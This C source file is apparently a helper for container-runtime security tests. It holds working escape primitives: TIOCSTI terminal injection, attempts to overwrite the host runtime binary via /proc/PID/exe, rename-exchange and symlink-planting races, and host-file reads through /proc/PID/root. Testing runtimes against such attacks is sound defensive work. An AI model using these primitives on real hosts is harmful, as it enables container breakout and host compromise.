/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker: everything that an attack test needs in C, in one static program. Some commands run
 * inside a container (they do what a hostile image would), some outside (they race, count and
 * watch). Inside a container the exit status says who won: WON if the attack succeeded, 0 if not,
 * 1 if it could not even be tried.
 *
 *   inside   fds                 lists the open descriptors of every process it can see
 *            masked              WON if a masked path of /proc or /sys shows anything
 *            sti TEXT            pushes TEXT and a newline into its terminals' input
 *            exe-give SOCK       hands a descriptor of pid 1's binary to exe-hold
 *            exe-hold DIR        collects such descriptors, tries to write through each (see there)
 *            exe-watch DIR       opens the binary of each process that comes (see there)
 *   either   swap A B [COUNT]    exchanges two names until it is killed; "ready" once it began;
 *                                how often, in the file COUNT
 *            count COUNT         prints that
 *            plant DIR NAME TARGET   puts a symlink in the place of each directory NAME that comes
 *                                up in DIR or in a hidden directory of it, until it is killed
 *            open PATH...        opens each for reading; WON if one can be opened
 *   outside  starts N [-f PATH] CMD...   runs CMD N times; stops as soon as it exits WON or PATH
 *                                is there
 *            flood N CMD...      CMD with N inherited descriptors
 *            pty CMD...          CMD on a terminal; tells what is left in the terminal's input
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <unistd.h>

#define WON 42
#define HELD 600

static int die(const char *what)
{
	fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
	return 1;
}

static void leave(int sig)
{
	(void)sig;
	_exit(0);
}

/* A pid 1 is killed by nothing that it does not handle. */
static void mortal(void)
{
	signal(SIGTERM, leave);
	signal(SIGINT, leave);
	signal(SIGHUP, leave);
}

/* ---- descriptors */

static int fds_of(const char *pid)
{
	char path[300], to[300];
	struct dirent *d;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%.15s/fd", pid);
	dir = opendir(path);
	if (!dir)
		return errno == EACCES || errno == ENOENT ? 0 : die(path);
	while ((d = readdir(dir))) {
		ssize_t n;

		if (*d->d_name == '.' || (atoi(pid) == getpid() && atoi(d->d_name) == dirfd(dir)))
			continue;
		n = readlinkat(dirfd(dir), d->d_name, to, sizeof(to) - 1);
		to[n > 0 ? n : 0] = 0;
		printf("pid %s fd %s %s\n", pid, d->d_name, to);
	}
	closedir(dir);
	return 0;
}

static int cmd_fds(int argc, char **argv)
{
	char pids[64][16];
	struct dirent *d;
	int n = 0;
	DIR *proc = opendir("/proc");

	(void)argc;
	(void)argv;
	if (!proc)
		return die("/proc");
	while (n < 64 && (d = readdir(proc)))
		if (*d->d_name >= '1' && *d->d_name <= '9')
			snprintf(pids[n++], sizeof(pids[0]), "%.15s", d->d_name);
	closedir(proc);
	for (int i = 0; i < n; i++)
		if (fds_of(pids[i]))
			return 1;
	return 0;
}

static int cmd_flood(int argc, char **argv)
{
	static const char *const what[] = {"/", "/etc/passwd", "/dev/null", "/proc"};
	int n = argc > 2 ? atoi(argv[1]) : 0, fd, p[2];

	for (int i = 0; i < n; i++) {
		fd = open(what[i % 4], O_RDONLY);
		if (fd < 0)
			return die("open");
		/* every few far away, where a loop up to some number would not come */
		if (i % 8 == 0 && dup2(fd, 500 + i) < 0)
			return die("dup2");
	}
	if (pipe(p) || socketpair(AF_UNIX, SOCK_STREAM, 0, p))
		return die("pipe");
	execvp(argv[2], argv + 2);
	return die(argv[2]);
}

/* ---- masks */

static int dir_shows(const char *path)
{
	struct statfs fs;
	struct dirent *d;
	int found = 0;
	DIR *dir = opendir(path);

	if (!dir)
		return 0;
	while ((d = readdir(dir)))
		found |= strcmp(d->d_name, ".") && strcmp(d->d_name, "..");
	found |= fstatfs(dirfd(dir), &fs) || fs.f_type != 0x01021994; /* tmpfs */
	closedir(dir);
	return found;
}

static int cmd_masked(int argc, char **argv)
{
	static const char *const paths[] = {
		"/proc/asound",	    "/proc/acpi",	 "/proc/interrupts",
		"/proc/kcore",	    "/proc/keys",	 "/proc/latency_stats",
		"/proc/timer_list", "/proc/timer_stats", "/proc/sched_debug",
		"/proc/scsi",	    "/sys/firmware",	 "/sys/devices/virtual/powercap",
	};
	int seen = 0, shown = 0;
	struct stat st;

	(void)argc;
	(void)argv;
	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths); i++) {
		if (lstat(paths[i], &st))
			continue;
		seen++;
		if (S_ISDIR(st.st_mode) ? !dir_shows(paths[i])
					: S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3))
			continue;
		fprintf(stderr, "%s: mode %o device %llx\n", paths[i], st.st_mode,
			(unsigned long long)st.st_rdev);
		shown++;
	}
	if (!seen)
		return die("no masked path exists");
	return shown ? WON : 0;
}

/* ---- races */

/* What FILE holds is shared by all who map it: how often the names were exchanged. */
static volatile unsigned long *counter(const char *file)
{
	int fd = open(file, O_RDWR | O_CREAT, 0644);
	void *p = MAP_FAILED;

	if (fd >= 0 && !ftruncate(fd, sizeof(long)))
		p = mmap(NULL, sizeof(long), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	return p == MAP_FAILED ? NULL : p;
}

static int cmd_count(int argc, char **argv)
{
	volatile unsigned long *n = argc == 2 ? counter(argv[1]) : NULL;

	return n ? printf("%lu\n", *n) < 0 : die("count FILE");
}

static int cmd_swap(int argc, char **argv)
{
	unsigned long none = 0;
	volatile unsigned long *count = argc == 4 ? counter(argv[3]) : &none;

	if (argc < 3 || !count)
		return die("swap A B [COUNT]");
	mortal();
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE))
		return die("exchange");
	puts("ready");
	fflush(stdout);
	for (unsigned long n = 0;; n++) {
		if (!syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE))
			++*count;
		/* now and then the names rest for a while, or with two processors the other side
		 * would always meet the same one */
		if (n % 15 == 0)
			usleep((n / 15) % 7 * 10);
	}
}

/* One round in one directory. */
static void plant(const char *dir, const char *name, const char *target)
{
	static unsigned long n;
	char path[4096], taken[4096];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	snprintf(taken, sizeof(taken), "%s/.taken-%lu", dir, n);
	if (!lstat(path, &st) && S_ISDIR(st.st_mode) && !rename(path, taken) &&
	    !symlink(target, path))
		n++;
}

static int cmd_plant(int argc, char **argv)
{
	if (argc != 4)
		return die("plant DIR NAME TARGET");
	mortal();
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	puts("ready");
	fflush(stdout);
	for (;;) {
		DIR *d = opendir(argv[1]);
		struct dirent *de;
		char path[4096];

		plant(argv[1], argv[2], argv[3]);
		while (d && (de = readdir(d))) {
			if (de->d_name[0] != '.' || !de->d_name[1] || de->d_name[1] == '.')
				continue;
			snprintf(path, sizeof(path), "%s/%s", argv[1], de->d_name);
			plant(path, argv[2], argv[3]);
		}
		if (d)
			closedir(d);
	}
}

static int cmd_open(int argc, char **argv)
{
	int rc = 0, fd;

	for (int i = 1; i < argc; i++) {
		fd = open(argv[i], O_RDONLY | O_NONBLOCK);
		printf("%s: %s\n", argv[i], fd < 0 ? strerror(errno) : "opened");
		rc = fd < 0 ? rc : WON;
	}
	return rc;
}

/* One start is a row of processes that wait for each other, and for a processor that the attacker
 * has: so several are on their way at a time, all of which race. */
#define AT_A_TIME 4

/* The exit status of the next that ends; -1: none is left. */
static int next_end(void)
{
	int status;

	while (waitpid(-1, &status, 0) < 0)
		if (errno != EINTR)
			return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* Output: "starts=K won=0|1 ok=K failed=K": failed are those that ended with an error. */
static int cmd_starts(int argc, char **argv)
{
	int max = argc > 2 ? atoi(argv[1]) : 0, at = 2, n = 0, won = 0, ok = 0, bad = 0, out = 0,
	    rc;
	const char *path = NULL;
	pid_t pid;

	if (argc > 4 && !strcmp(argv[2], "-f")) {
		path = argv[3];
		at = 4;
	}
	while (out || (n < max && !won)) {
		if (n < max && !won && out < AT_A_TIME) {
			pid = fork();
			if (!pid) {
				execvp(argv[at], argv + at);
				_exit(126);
			}
			n++;
			out += pid > 0;
			bad += pid < 0;
			continue;
		}
		rc = next_end();
		out--;
		won |= rc == WON || (path && !access(path, F_OK));
		ok += rc == 0;
		bad += rc != 0 && rc != WON;
	}
	printf("starts=%d won=%d ok=%d failed=%d\n", n, won, ok, bad);
	return 0;
}

/* ---- terminals */

static int cmd_sti(int argc, char **argv)
{
	static const char *const names[] = {"/dev/tty", "/dev/console", "/dev/pts/0"};
	int fds[6] = {0, 1, 2}, done = 0;
	const char *text = argc > 1 ? argv[1] : "x";

	for (int i = 0; i < 3; i++)
		fds[3 + i] = open(names[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
	for (int i = 0; i < 6; i++) {
		int error = 0;

		if (fds[i] < 0)
			continue;
		for (const char *p = text; *p && !error; p++)
			error = ioctl(fds[i], TIOCSTI, p) ? errno : 0;
		if (!error)
			ioctl(fds[i], TIOCSTI, "\n");
		fprintf(stderr, "sti %d: %s\n", i, error ? strerror(error) : "done");
		done |= !error;
	}
	return done ? WON : 0;
}

/* The terminal's session leader, as a shell would be: it outlives CMD and then reads. */
static int leader(int slave, int report, char **cmd)
{
	struct termios t;
	char text[4096];
	int status;
	ssize_t n;
	pid_t pid;

	setsid();
	if (ioctl(slave, TIOCSCTTY, 0))
		return die("TIOCSCTTY");
	for (int i = 0; i < 3; i++)
		dup2(slave, i);
	pid = fork();
	if (!pid) {
		execvp(*cmd, cmd);
		_exit(126);
	}
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	tcgetattr(0, &t);
	t.c_lflag &= ~(tcflag_t)(ICANON | ECHO);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 0;
	tcsetattr(0, TCSANOW, &t);
	while ((n = read(0, text, sizeof(text))) > 0)
		if (write(report, text, (size_t)n) != n)
			return 1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* Output: what the terminal showed, then "left in the input: [TEXT]"; exit status of CMD. */
static int cmd_pty(int argc, char **argv)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC), slave, report[2], status;
	char text[4096];
	ssize_t n;
	pid_t pid;

	if (argc < 2 || master < 0 || grantpt(master) || unlockpt(master) ||
	    pipe2(report, O_CLOEXEC))
		return die("pty");
	slave = open(ptsname(master), O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (slave < 0)
		return die("pty");
	pid = fork();
	if (!pid)
		_exit(leader(slave, report[1], argv + 1));
	close(slave);
	close(report[1]);
	while ((n = read(master, text, sizeof(text))) > 0)
		if (write(1, text, (size_t)n) != n)
			return 1;
	printf("\nleft in the input: [");
	while ((n = read(report[0], text, sizeof(text))) > 0)
		for (ssize_t i = 0; i < n; i++)
			putchar(text[i] == '\n' || text[i] == '\r' ? ';' : text[i]);
	puts("]");
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* ---- the binary that runs us */

static int held[HELD], nheld, written, changed, tried;

/* Through an O_PATH descriptor, as if it were still /proc/PID/exe. */
static void try_all(int fd)
{
	static const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC};
	char path[40];
	struct stat st;
	int w, flags;

	tried++;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (size_t i = 0; i < 4; i++) {
		w = open(path, modes[i] | O_CLOEXEC);
		if (w < 0)
			continue;
		written += write(w, "owned\n", 6) == 6;
		close(w);
	}
	written += !truncate(path, 3);
	/* to what it is already: the weak binary must go on working until somebody overwrites it */
	if (!fstat(fd, &st))
		changed += !chmod(path, st.st_mode & 07777);
	changed += !utimensat(AT_FDCWD, path, NULL, 0);
	changed += !setxattr(path, "user.owned", "1", 1, 0);
	w = open(path, O_RDONLY | O_CLOEXEC);
	if (w >= 0) {
		if (!ioctl(w, FS_IOC_GETFLAGS, &flags))
			changed += !ioctl(w, FS_IOC_SETFLAGS, &flags);
		close(w);
	}
}

static int socket_at(const char *path, struct sockaddr_un *sa)
{
	*sa = (struct sockaddr_un){.sun_family = AF_UNIX};
	snprintf(sa->sun_path, sizeof(sa->sun_path), "%s", path);
	return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static int pass_fd(int sock, int *fd, int send)
{
	union {
		struct cmsghdr align;
		char space[CMSG_SPACE(sizeof(int))];
	} c = {.space = {0}};
	char byte = 'F';
	struct iovec io = {&byte, 1};
	struct msghdr m = {.msg_iov = &io,
			   .msg_iovlen = 1,
			   .msg_control = c.space,
			   .msg_controllen = sizeof(c.space)};
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);

	if (send) {
		h->cmsg_level = SOL_SOCKET;
		h->cmsg_type = SCM_RIGHTS;
		h->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(h), fd, sizeof(int));
		return sendmsg(sock, &m, 0) == 1 ? 0 : -1;
	}
	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) != 1 || !(h = CMSG_FIRSTHDR(&m)) ||
	    h->cmsg_type != SCM_RIGHTS)
		return -1;
	memcpy(fd, CMSG_DATA(h), sizeof(int));
	return 0;
}

/* Tries by itself first (pid 1 runs, so the weak binary is busy), then gives it away. */
static int cmd_exe_give(int argc, char **argv)
{
	struct sockaddr_un sa;
	int sock = socket_at(argc > 1 ? argv[1] : "", &sa), fd;
	char byte;

	fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
	if (fd < 0)
		return die("/proc/1/exe");
	try_all(fd);
	if (sock < 0 || connect(sock, (struct sockaddr *)&sa, sizeof(sa)) || pass_fd(sock, &fd, 1))
		return die("hand the binary over");
	if (read(sock, &byte, 1) != 1)
		return die("answer of the holder");
	return written ? WON : 0;
}

static void hold(int fd)
{
	if (fd >= 0 && nheld < HELD)
		held[nheld++] = fd;
}

static void say(const char *dir, const char *name)
{
	char path[300], tmp[310];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	snprintf(tmp, sizeof(tmp), "%s.tmp", path);
	f = fopen(tmp, "w");
	if (!f)
		return;
	fprintf(f, "held=%d tried=%d written=%d changed=%d\n", nheld, tried, written, changed);
	fclose(f);
	rename(tmp, path);
}

/*
 * In a container that shares the host's pid namespace. Holds the binary of its own parent, the
 * shim, and every one that is given to it over DIR/sock; tries at once to write through each. It
 * tells its parent's pid as DIR/parent, then its count as DIR/first. When DIR/go appears the test
 * has killed that parent and everybody else who runs the binary, so nothing is ETXTBSY any more:
 * tries all of them again, DIR/last.
 */
static int cmd_exe_hold(int argc, char **argv)
{
	const char *dir = argc > 1 ? argv[1] : ".";
	struct sockaddr_un sa;
	char path[300], exe[40];
	int sock, one, fd;
	FILE *f;

	mortal();
	snprintf(exe, sizeof(exe), "/proc/%d/exe", (int)getppid());
	fd = open(exe, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return die(exe);
	hold(fd);
	try_all(fd);
	snprintf(path, sizeof(path), "%s/sock", dir);
	sock = socket_at(path, &sa);
	if (sock < 0 || bind(sock, (struct sockaddr *)&sa, sizeof(sa)) || listen(sock, 64))
		return die(path);
	snprintf(path, sizeof(path), "%s/parent", dir);
	f = fopen(path, "w");
	if (!f || fprintf(f, "%d\n", (int)getppid()) < 0 || fclose(f))
		return die(path);
	say(dir, "first");
	snprintf(path, sizeof(path), "%s/go", dir);
	while (access(path, F_OK)) {
		struct pollfd p = {.fd = sock, .events = POLLIN};

		if (poll(&p, 1, 100) <= 0 || (one = accept4(sock, NULL, NULL, SOCK_CLOEXEC)) < 0)
			continue;
		if (!pass_fd(one, &fd, 0)) {
			hold(fd);
			try_all(fd);
		}
		say(dir, "first");
		if (write(one, "A", 1) != 1)
			die("answer");
		close(one);
	}
	for (int i = 0; i < nheld; i++)
		try_all(held[i]);
	say(dir, "last");
	return 0;
}

/*
 * As pid 1 of a container that may look at others: opens /proc/PID/exe of each newcomer as soon as
 * its number is there. What is not the container's own busybox is a process that has not got to
 * its command yet; that binary is held and tried at once, DIR/first, and all again when DIR/go
 * appears, DIR/last.
 */
static int cmd_exe_watch(int argc, char **argv)
{
	const char *dir = argc > 1 ? argv[1] : ".";
	struct stat own, own2, st;
	char path[300], exe[40];
	int next = 2;

	mortal();
	signal(SIGCHLD, SIG_IGN);
	if (stat("/bin/busybox", &own) || stat("/proc/self/exe", &own2))
		return die("own binaries");
	say(dir, "first");
	snprintf(path, sizeof(path), "%s/go", dir);
	for (long round = 0; round % 1024 || access(path, F_OK); round++) {
		int pid = next + (int)(round % 8), fd;

		snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
		fd = open(exe, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		next = pid + 1;
		if (fstat(fd, &st) || st.st_ino == own.st_ino || st.st_ino == own2.st_ino) {
			close(fd);
			continue;
		}
		hold(fd);
		try_all(fd);
		say(dir, "first");
	}
	for (int i = 0; i < nheld; i++)
		try_all(held[i]);
	say(dir, "last");
	for (;;)
		pause();
}

/*
 * As pid 1 and root of a user namespace that others join: opens HOSTFILE below /proc/PID/root of
 * each newcomer, which shows the host's tree until it has entered its own. DIR/won: one did.
 */
static int cmd_root_watch(int argc, char **argv)
{
	char path[500], won[300];
	int top = 1;

	if (argc < 3)
		return die("root-watch DIR HOSTFILE");
	mortal();
	signal(SIGCHLD, SIG_IGN);
	snprintf(won, sizeof(won), "%s/won", argv[1]);
	printf("ready\n");
	fflush(stdout);
	for (;;)
		for (int pid = top > 6 ? top - 4 : 2, end = top + 16; pid < end; pid++) {
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/root%s", pid, argv[2]);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				close(fd);
				close(open(won, O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
			} else if (errno == ENOENT) {
				snprintf(path, sizeof(path), "/proc/%d", pid);
				if (access(path, F_OK))
					continue;
			}
			if (pid > top)
				top = pid;
		}
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(int argc, char **argv);
	} cmds[] = {
		{"fds", cmd_fds},
		{"flood", cmd_flood},
		{"masked", cmd_masked},
		{"swap", cmd_swap},
		{"count", cmd_count},
		{"plant", cmd_plant},
		{"open", cmd_open},
		{"starts", cmd_starts},
		{"sti", cmd_sti},
		{"pty", cmd_pty},
		{"exe-give", cmd_exe_give},
		{"exe-hold", cmd_exe_hold},
		{"exe-watch", cmd_exe_watch},
		{"root-watch", cmd_root_watch},
	};

	for (size_t i = 0; argc > 1 && i < sizeof(cmds) / sizeof(*cmds); i++)
		if (!strcmp(argv[1], cmds[i].name))
			return cmds[i].run(argc - 1, argv + 1);
	fprintf(stderr, "attacker: no such command\n");
	return 1;
}
